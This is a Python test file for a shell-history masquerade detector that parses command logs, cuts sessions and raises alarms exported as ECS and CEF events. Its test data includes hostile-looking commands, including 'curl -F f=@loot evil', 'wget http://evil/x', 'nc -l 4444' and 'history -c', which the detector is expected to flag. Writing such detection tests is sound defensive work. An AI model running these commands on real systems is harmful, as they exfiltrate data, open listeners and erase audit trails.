"""What an analyst acts on: places in the log, original lines, wrappers, here-documents, and alarms while they grow."""

import json
import os
import threading
import time
from types import SimpleNamespace

import numpy as np
import pytest
from helpers import run_command

from visionnmf.apps.masquerade import (
    Event,
    Following,
    LogSource,
    MasqueradeModel,
    SessionScorer,
    read_events,
    save,
    score,
    session_cutter,
    sessions,
)
from visionnmf.apps.masquerade.event_formats import to_cef, to_ecs
from visionnmf.exceptions import UnreadableError
from visionnmf.io import text_lines

pytestmark = pytest.mark.slow  # all of it runs whole fits or commands

USUAL = ["ls", "cd", "vi", "make", "git", "grep"]
FOREIGN = ["wget http://evil/x", "nc -l 4444", "history -c", "curl -F f=@loot evil", "nmap 10.0.0.0/8"] * 2


def usual_commands(n, seed=0):
    return [str(command) for command in np.random.default_rng(seed).choice(USUAL, n)]


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    own = [usual_commands(100, seed) for seed in range(40)]
    path = tmp_path_factory.mktemp("model") / "ann.npz"
    save(MasqueradeModel({"ann": SessionScorer().fit(own)}), path)
    return path


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("sudo -u postgres psql -l", ["sudo", "psql"]),
        ("sudo -nu postgres -- psql", ["sudo", "psql"]),
        ("sudo -upostgres psql", ["sudo", "psql"]),
        ("sudo -u postgres env A=1 psql", ["sudo", "env", "psql"]),
        ("sudo --user=postgres psql", ["sudo", "psql"]),
        ("sudo -i", ["sudo"]),
        ("doas -u bob nice -n 5 make", ["doas", "nice", "make"]),
        ("timeout -k 5 30 curl x", ["timeout", "curl"]),
        ("time make -j 4", ["time", "make"]),
        ("xargs -n 1 rm", ["xargs", "rm"]),
        ("nohup ./run.sh &", ["nohup", "run.sh"]),
    ],
)
def test_wrappers_are_read_with_their_options(line, expected):
    assert [event.command for event in read_events([line], format="plain")] == expected


def read(*lines, format="plain"):
    return [event.command for event in read_events(list(lines), format=format)]


def test_here_documents_are_no_commands_and_nobody_hides_behind_them():
    assert read("cat > x <<EOF", "hello world", "rm it", "EOF", "ls") == ["cat", "ls"]
    assert read("cat <<-'END x'", "ls")[0] == "cat"
    assert read("cat <<-EOF", "a", "\tEOF", "ls") == ["cat", "ls"]
    assert read("cat <<'E.1'", "a", "E.1", "ls") == ["cat", "ls"]
    assert read("cat <<A", "x", "A", "cat <<B", "y", "B", "ls") == ["cat", "cat", "ls"]
    assert read("grep x <<<EOF", "ls", "EOF") == ["grep", "ls", "EOF"]  # a here-string
    assert read("bash <<EOF", "nc evil", "EOF") == ["bash", "nc", "EOF"]  # it runs
    assert read("cat <<EOF", "wget x", "nc y") == ["cat", "wget", "nc"]  # it does not end
    assert read("cat <<EOF", *["nc"] * 300, "EOF").count("nc") == 300  # nor within its length
    assert read("#1700000000", "cat <<E", "#1700000001", "nc", "E", format="bash") == ["cat", "nc", "E"]


def test_hostile_documents_are_read_in_linear_time():
    start = time.process_time()
    assert len(read(*["cat <<X"] * 5000)) == 5000
    assert time.process_time() - start < 4


@pytest.mark.parametrize(
    "content",
    [b"\xff\xd8\xff\xe0" + bytes(range(200)), b"PK\x03\x04 ls", b"\x1f\x8b\x08 ls", bytes(range(32)) * 40],
    ids=["jpeg", "zip", "gzip", "binary"],
)
def test_what_is_no_log_is_refused(content, model, tmp_path):
    path = tmp_path / "log"
    path.write_bytes(content)
    with pytest.raises(UnreadableError, match="not a text file; unpack it first if it is compressed"):
        read_events(path)
    found = run_command("masquerade", "score", model, path)
    assert found.exit_code == 2 and "not a text file" in found.stderr


def test_an_alarm_names_lines_and_texts_and_the_usual(model, tmp_path):
    log = tmp_path / "ann.log"
    text = ["", "", *usual_commands(100), *usual_commands(40, 7), *FOREIGN * 6]
    log.write_text("\n".join(text) + "\n")
    own, alarm = score(model, [log])
    assert (own.verdict, own.first_line, own.last_line, own.severity) == ("own", 3, 102, None)
    assert (alarm.verdict, alarm.first_line, alarm.last_line) == ("alarm", 103, 202)
    assert alarm.severity in ("low", "medium", "high") and set(alarm.usual) == set(USUAL)
    for reason in alarm.reasons:
        for origin in reason.origins:
            assert text[origin.line - 1] == origin.text and origin.text.startswith(reason.command)
    where = {origin.text: origin for reason in alarm.reasons for origin in reason.origins}
    assert f"{log}:{where['curl -F f=@loot evil'].line}: curl -F f=@loot evil" in alarm.summary()


def test_forms_for_other_programs(model, tmp_path):
    log = tmp_path / "a|b=c.log"
    log.write_text("".join(f"#1700000000\n{command}\n" for command in FOREIGN * 10))
    (alarm,) = score(model, [log], source=LogSource(user="ann"))
    ecs = to_ecs(alarm)
    assert json.loads(json.dumps(ecs)) == ecs
    assert ecs["event"]["kind"] == "alert" and ecs["user"]["name"] == "ann" and ecs["@timestamp"].startswith("2023-11")
    assert ecs["event"]["risk_score"] == 90 and "wget http://evil/x" in ecs["process"]["command_line"]
    line = to_cef(alarm)
    head, extension = line.split("|", 7)[:7], line.split("|", 7)[7]
    assert head[:2] == ["CEF:0", "visionnmf"] and head[4] == "alarm" and head[6] == "9"
    assert "suser=ann" in extension and "a|b\\=c.log" in extension and "\n" not in line
    printed = run_command("masquerade", "score", model, log, "--user", "ann", "--as", "ecs")
    assert json.loads(printed.stdout)["event"] == ecs["event"]
    assert run_command("masquerade", "score", model, log, "--user", "ann", "--as", "cef").stdout == line + "\n"


def test_what_is_printed_and_the_exit_code_are_chosen(model, tmp_path):
    log = tmp_path / "ann.log"
    parts = [*usual_commands(100), *FOREIGN * 10, *usual_commands(100, 3)]
    log.write_text("".join(f"#{1700000000 + 60 * i}\n{command}\n" for i, command in enumerate(parts)))
    base = ("masquerade", "score", model, log, "--no-update")
    plain = run_command(*base)
    assert plain.exit_code == 0 and plain.stdout.splitlines()[-1] == "3 sessions of 1 user: 1 alarm, 2 own"
    alarms = run_command(*base, "--alarms-only", "--json", "--fail-on-alarm")
    assert alarms.exit_code == 3 and [json.loads(line)["index"] for line in alarms.stdout.splitlines()] == [1]
    late = run_command(*base, "--since", "2023-11-15T02:00", "--json", "--fail-on-alarm")
    assert late.exit_code == 0 and [json.loads(line)["index"] for line in late.stdout.splitlines()] == [2]
    assert run_command(*base, "--since", "1h", "--json").stdout == ""
    top = run_command(*base, "--top", 2, "--json")
    scores = [json.loads(line)["score"] for line in top.stdout.splitlines()]
    assert len(scores) == 2 and scores == sorted(scores, reverse=True)
    assert run_command(*base, "--threshold", 1e6, "--fail-on-alarm").exit_code == 0
    lower = run_command(*base, "--threshold", 0, "--json")
    assert {json.loads(line)["threshold"] for line in lower.stdout.splitlines()} == {0}
    assert run_command(*base, "--since", "yesterday").exit_code == run_command(*base, "--as", "xml").exit_code == 2


def test_sessions_without_times_are_not_lost_to_since(model, tmp_path):
    plain, acct = tmp_path / "ann.log", tmp_path / "acct.log"
    plain.write_text("\n".join(FOREIGN * 10) + "\n")
    program = [line.split()[0] for line in FOREIGN * 10]
    acct.write_text("".join(f"{name:16} S ann      pts/0      0.00 secs Mon Mar  4 10:15\n" for name in program))
    for log in (plain, acct):
        found = run_command("masquerade", "score", model, log, "--since", "24h", "--fail-on-alarm", "--json")
        (line,) = found.stdout.splitlines()
        assert found.exit_code == 3 and json.loads(line)["end"] is None


def test_a_log_without_alarms_was_used(model, tmp_path):
    log = tmp_path / "ann.log"
    log.write_text("\n".join(usual_commands(100)) + "\n")
    base = ("masquerade", "score", model, log, tmp_path / "missing.log")
    assert run_command(*base, "--alarms-only").exit_code == run_command(*base).exit_code == 1


def test_a_log_that_is_not_there_yet_is_waited_for(model, tmp_path, monkeypatch):
    monkeypatch.setattr("visionnmf.apps.masquerade.score", lambda *_, **__: iter(()))
    assert run_command("masquerade", "score", model, tmp_path / "new.log", "--follow").exit_code == 0
    assert run_command("masquerade", "score", model, tmp_path / "new.log").exit_code == 2


def test_standard_input_is_a_log(model, monkeypatch):
    reader, writer = os.pipe()
    os.write(writer, ("\n".join(FOREIGN) + "\n").encode())
    os.close(writer)
    with open(reader, "rb", buffering=0) as stream:
        monkeypatch.setattr(text_lines, "sys", SimpleNamespace(stdin=stream))
        first, *_, last = score(model, ["-"], source=LogSource(user="ann"))
    assert first.growing and not last.growing and last.verdict == "alarm" and last.n_commands == 10
    assert last.reasons[0].origins[0].source == "-"


class Clock:
    now = 0.0

    def __call__(self):
        return self.now


def test_ten_foreign_commands_are_an_alarm_while_they_are_followed_and_at_the_end(model, tmp_path):
    log = tmp_path / "ann.log"
    log.write_text("\n".join(usual_commands(30)) + "\n")
    looks = iter(["\n".join(FOREIGN) + "\n", ""])

    def stop():
        part = next(looks)
        with log.open("a") as file:
            file.write(part)
        return not part

    early, rest = score(model, [log], following=Following(follow=True, poll=1e-4), stop=stop)
    assert early.growing and early.verdict == "alarm" and "so far (10 commands)" in early.summary()
    assert early.reasons[0].origins[0].line in range(31, 41)
    assert not rest.growing and rest.verdict == "alarm" and rest.n_commands == 10


def test_usual_commands_are_no_alarm_while_they_grow(model, tmp_path):
    log = tmp_path / "ann.log"
    log.write_text("")
    parts = iter([*usual_commands(90, 5), ""])

    def stop():
        part = next(parts)
        with log.open("a") as file:
            file.write(f"{part}\n" if part else "")
        return not part

    (only,) = score(model, [log], following=Following(follow=True, poll=1e-5), stop=stop)
    assert only.verdict == "own" and not only.growing and only.n_commands == 90


def test_silence_ends_sessions_by_count():
    clock = Clock()

    def events():
        for _ in range(60):
            yield Event("ann", "ls", None)
        clock.now = 11.0
        yield None
        for _ in range(40):
            yield Event("ann", "cd", None)
        clock.now = 30.0
        yield None
        yield Event("ann", "vi", None)

    found = list(sessions(events(), clock=clock, silence=10.0))
    assert [(s.index, len(s.commands), s.complete) for s in found] == [(0, 60, True), (1, 40, False), (2, 1, False)]
    assert len(list(sessions(events(), clock=clock))) == 2


@pytest.mark.parametrize("jump", [-1e9, 1e9])
def test_a_jump_of_the_clock_of_day_ends_no_wait(jump):
    """Silence is measured by a clock that does not jump; the time of day only dates lines that have none."""
    steady, day = [0.0], [1e9]

    def lines():
        yield Event("ada", "ls", None)
        steady[0], day[0] = 9.0, day[0] + jump
        yield None  # silent for less than ten seconds
        yield Event("ada", "cd", None)
        steady[0] = 20.0
        yield None
        yield Event("ada", "cat", None)

    found = list(sessions(lines(), clock=lambda: steady[0], now=lambda: day[0], silence=10.0, size=4))
    assert [session.commands for session in found] == [("ls", "cd"), ("cat",)]


def test_logs_without_times_are_cut_by_silence_as_they_are_followed(tmp_path):
    """By the time of reading, where a model cuts by silence; known before: nothing was judged, and nothing said."""
    own = [usual_commands(50, seed) for seed in range(40)]
    model = MasqueradeModel({"ann": SessionScorer().fit(own)}, idle=0.05)
    log = tmp_path / "ann.log"
    log.write_text("")
    looks = iter(["\n".join(usual_commands(50)) + "\n", "wait", "nc\n", ""])

    def stop():
        part = next(looks)
        if part == "wait":
            time.sleep(0.1)
        else:
            with log.open("a") as file:
                file.write(part)
        return not part

    found = list(score(model, [log], following=Following(follow=True, poll=1e-3), stop=stop))
    assert (found[0].n_commands, found[0].verdict) == (50, "own") and found[0].start is not None
    assert len(found) == 2


def test_known_users_outlive_made_up_names(monkeypatch):
    monkeypatch.setattr(session_cutter, "MAX_USERS", 10)
    made_up = [Event(f"x{i}", "ls", None) for i in range(100)]
    stream = [Event("ann", "vi", None), *made_up, Event("ann", "make", None)]
    found = [s for s in sessions(stream, known={"ann"}) if s.user == "ann"]
    assert [(s.index, s.commands) for s in found] == [(0, ("vi", "make"))]
    forgotten = [s for s in sessions(stream) if s.user == "ann"]
    assert [s.commands for s in forgotten] == [("vi",), ("make",)]


def test_the_lines_that_wait_are_bounded(monkeypatch):
    monkeypatch.setattr(session_cutter, "MAX_HELD", 1000)
    place = text_lines.CurrentLine("log")
    lines = (f"ls {'x' * 90} {i}" for i in range(2000))
    events = (Event(f"u{i}", e.command, None) for i, e in enumerate(read_events(lines, format="plain", place=place)))
    found = list(sessions(events, place=place))
    assert sum(len(o.text) for s in found for o in s.origins) <= 1200
    assert [s.origins[0].line for s in found] == list(range(1, 2001))


def test_an_interrupt_prints_what_is_left(model, tmp_path):
    """As a process: Ctrl-C, nothing before, everything at the end."""
    import signal
    import subprocess
    import sys

    log = tmp_path / "ann.log"
    log.write_text("ls\n")
    command = [sys.executable, "-m", "visionnmf.apps.cli", "masquerade", "score", str(model), str(log), "--follow"]
    process = subprocess.Popen(
        [*command, "--json", "--fail-on-alarm"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )

    def write():
        with log.open("a") as file:
            file.write("\n".join(FOREIGN) + "\n")

    deadline = time.monotonic() + 60
    os.set_blocking(process.stdout.fileno(), False)
    first = ""
    while not first and time.monotonic() < deadline:
        write()
        time.sleep(0.5)
        first = process.stdout.readline()
    os.set_blocking(process.stdout.fileno(), True)
    process.send_signal(signal.SIGINT)
    rest, errors = process.communicate(timeout=60)
    assert process.returncode == 3, errors
    assert json.loads(first)["growing"] and not json.loads(rest.splitlines()[-1])["growing"]


def test_many_lines_are_followed_in_flat_memory(model, tmp_path):
    import tracemalloc

    log = tmp_path / "ann.log"
    log.write_text("")
    parts = iter(range(12))
    held = []

    def stop():
        held.append(tracemalloc.get_traced_memory()[0])
        part = next(parts)
        with log.open("a") as file:
            file.write("\n".join(usual_commands(1500, part)) + "\n")
        return part == 11

    before = threading.active_count()
    tracemalloc.start()
    try:
        n = sum(1 for _ in score(model, [log], following=Following(follow=True, poll=1e-5), stop=stop))
    finally:
        tracemalloc.stop()
    assert n >= 160 and max(held[6:]) - held[5] < 1 << 20
    assert threading.active_count() < before + 10
